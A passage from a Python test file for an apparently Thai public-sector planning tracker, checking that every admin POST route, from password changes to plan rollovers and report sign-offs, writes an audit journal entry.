        f"/admin/users/{d.viewer.id}",
        {"display_name": "ผู้ดูข้อมูล (แก้ไข)"},
        None,
    ),
    "admin.user_password": lambda d: (
        f"/admin/users/{d.viewer.id}",
        ".*/password",
        {"new_password": "new-pass-2567", "new_password_confirm": "new-pass-2567"},
        None,
    ),
    "admin.user_active": lambda d: (f"/admin/users/{d.viewer.id}", ".*/active", {}, None),
    "calendar.renew_department": lambda d: (None, f"/calendar/departments/{d.department.id}/renew", {}, None),
    "ita.save": lambda d: ("/ita/2565", "/ita/2565/scores", {"score-1": "77.5"}, None),
    # FY 2564's weak indicators are not yet in a FY 2565 plan (2565's are in the demo's 2566 plan).
    "ita.start_weakness": lambda d: ("/ita/2564", r"/ita/2564/indicators/\d+/weakness", {}, None),
    "ita.upload": _ita_file,
    "memo.save": lambda d: (
        f"/plans/{d.plan.id}/memo",
        f"/plans/{d.plan.id}/memo",
        {"reference": "ขก 52101/123", "memo_date": "12/10/2565"},
        None,
    ),
    "notify.rules_page": lambda d: ("/admin/notifications", "/admin/notifications", {"days_before": "5,2"}, None),
    "outbox.resend_message": _failed_message,
    "public.publish": lambda d: (
        f"/plans/{d.plan.id}/publish",
        f"/plans/{d.plan.id}/publish",
        {"kind": "followup", "format": "xlsx"},
        None,
    ),
    "public.withdraw": _published,
    "rollover.rollover": lambda d: (f"/admin/plans/{d.plan.id}", f".*/plans/{d.plan.id}/rollover", {}, None),
    "signoff.create": lambda d: (
        "/reports/submissions/new",
        "/reports/submissions",
        {"kind": "followup", f"order-{d.manager.id}": "1"},
        None,
    ),
    "signoff.withdraw_view": _submission,
}


#: Admin POST routes that change nothing, or whose several-step flow is journal-checked in its own tests.
JOURNAL_CHECKED_ELSEWHERE = {
    "memo_import.start": "reads a memo into a preview and writes nothing (test_memo_import: counts unchanged)",
    "memo_import.preview": "confirming imports through plans.importer, journaled (test_memo_import)",
    "ita_paste.paste": "reads pasted scores into a mapping and writes nothing (test_ita_paste)",
    "ita_paste.confirm": "saves scores through ita.services.save_scores, journaled (test_ita_paste: 20 entries)",
    "line.settings": "connecting is journaled in line.services (test_line)",
    "line.disconnect": "journaled in line.services (test_line)",
    "line.test_message": "sends a LINE message to the admin and changes nothing",
    "admin.signing": "a PKCS#12 upload; stored and journaled in reports.signing (test_pdfa_signing)",
    "admin.signing_remove": "journaled in reports.signing (test_pdfa_signing)",
    "admin.documents_settings": "emblem upload and digit setting, journaled in orgs.documents (test_official_documents)",
    "admin.emblem_delete": "journaled in orgs.documents (test_official_documents)",
    "admin.import_plan": "previews a plan file and writes nothing (test_admin_import: counts unchanged)",
    "admin.import_confirm": "imports through plans.importer, journaled (test_admin_import: the admin's entries)",
    "admin.step_rules": "the done rule, journaled in orgs.settings (test_step_update)",
    "plans.trash_restore": "journaled as a restore in plans.trash (test_trash: the delete and restore entries)",
}


def _admin_post_endpoints() -> set[str]:
    from tests.test_access_matrix import ADMIN, class_of, rules

    app = create_app({"SQLALCHEMY_DATABASE_URI": "sqlite://", "TESTING": True})
    return {rule.endpoint for rule, method in rules(app) if method == "POST" and class_of(rule.endpoint) == ADMIN}


def test_every_admin_post_route_has_a_journal_check():
    missing = sorted(_admin_post_endpoints() - set(ADMIN_ACTIONS) - set(JOURNAL_CHECKED_ELSEWHERE))
    assert missing == [], f"add these admin POST routes to ADMIN_ACTIONS: {missing}"


@pytest.mark.parametrize("endpoint", sorted(ADMIN_ACTIONS))
def test_every_admin_action_leaves_a_journal_entry(app, ctx, login, monkeypatch, endpoint):
    from tracker.demo import DEMO_PASSWORD

    if endpoint not in app.view_functions:
        pytest.skip(f"{endpoint} is not part of this build")  # test_every_admin_post_route_has_… covers the rest
    monkeypatch.setattr(clock, "now", lambda: NOW)
    d = Demo()
    page, action, changes, files = ADMIN_ACTIONS[endpoint](d)
    client = login(d.admin, DEMO_PASSWORD)
    if page is None:
        data = {}
    else:
        got = client.get(page)
        # 400: the memo page shows its form even while the memo itself cannot be built yet.
        assert got.status_code in (200, 400), (page, got.status_code)
        forms = _Forms(got.get_data(as_text=True))
        for form in forms.forms:
            form["action"] = form["action"] or page  # action="" posts back to the page
        data = forms.matching(action)
        action = next(f["action"] for f in forms.forms if re.fullmatch(action, f["action"]))
    data.update(changes)
    data.update(files or {})
    before = db.session.scalar(
        sa.select(sa.func.count()).select_from(JournalEntry).where(JournalEntry.actor_id == d.admin.id)
    )

    response = client.post(action, data=data, content_type="multipart/form-data" if files else None)

    body = response.get_data(as_text=True)
    messages = re.findall(r'class="(?:error|flash)[^"]*">([^<]*)', body)
    assert response.status_code in (200, 302), (response.status_code, messages)
    after = db.session.scalar(
        sa.select(sa.func.count()).select_from(JournalEntry).where(JournalEntry.actor_id == d.admin.id)
    )
    assert after > before, f"{endpoint}: no journal entry by the admin"
